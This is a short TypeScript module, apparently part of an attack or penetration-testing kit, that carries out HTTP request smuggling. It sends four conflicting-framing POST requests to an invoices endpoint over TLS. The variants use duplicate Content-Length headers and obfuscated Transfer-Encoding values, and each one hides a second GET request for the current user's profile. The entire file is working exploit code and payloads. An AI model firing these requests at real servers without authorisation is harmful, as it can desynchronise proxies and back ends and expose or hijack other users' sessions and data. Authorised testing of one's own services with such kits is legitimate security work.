import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';

/** What one reader takes for a body is the next request to another. */
export const attack: Attack = {
  name: 'requests that frame their body in two ways',
  async run(target) {
    const hidden = head('GET /api/v1/me');
    const wires = [
      `${head('POST /api/v1/invoices', 'Content-Length: 5', 'Transfer-Encoding: chunked')}0\r\n\r\n${hidden}`,
      `${head('POST /api/v1/invoices', 'Content-Length: 5', 'Content-Length: 6')}12345${hidden}`,
      `${head('POST /api/v1/invoices', 'Transfer-Encoding: chunked, identity')}0\r\n\r\n${hidden}`,
      `${head('POST /api/v1/invoices', 'Transfer-Encoding: xchunked')}0\r\n\r\n${hidden}`,
    ];
    await target.repeat(10, async (round) => {
      const socket = await target.tls();
      await target.ask(socket, wires[round % wires.length] ?? '');
      socket?.destroy();
    });
  },
};
